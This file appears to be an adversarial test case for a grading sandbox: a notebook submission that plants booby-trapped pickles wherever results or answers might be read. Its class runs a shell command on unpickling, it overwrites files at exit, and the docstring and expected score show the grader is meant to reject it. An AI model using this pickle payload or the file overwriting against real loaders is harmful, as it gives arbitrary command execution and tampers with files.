"""Leaves pickles wherever a result, an answer or a file is read: loading one would run a command.

Nothing that crosses is unpickled or evaluated: the files are text that fails, the answers do not cross.
"""
# expect: score=0|not_graded

# %% cell reponse
import glob, os, pickle, sys
class Bombe:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/pickle-@TOKEN@ /tmp/pickle-@TOKEN@",)
moyenne = Bombe()
unite = pickle.dumps(Bombe())
for nom in ["labo.pkl", "answers.pickle", "result.pkl", sys.argv[-1] + ".pkl"]:
    try:
        open(nom, "wb").write(unite)
    except OSError:
        pass

# %% cell labo
import atexit, os, sys
open("labo.py", "wb").write(unite)
def a_la_fin():
    try:
        open(sys.argv[-1], "wb").write(unite)
    except OSError:
        pass
atexit.register(a_la_fin)
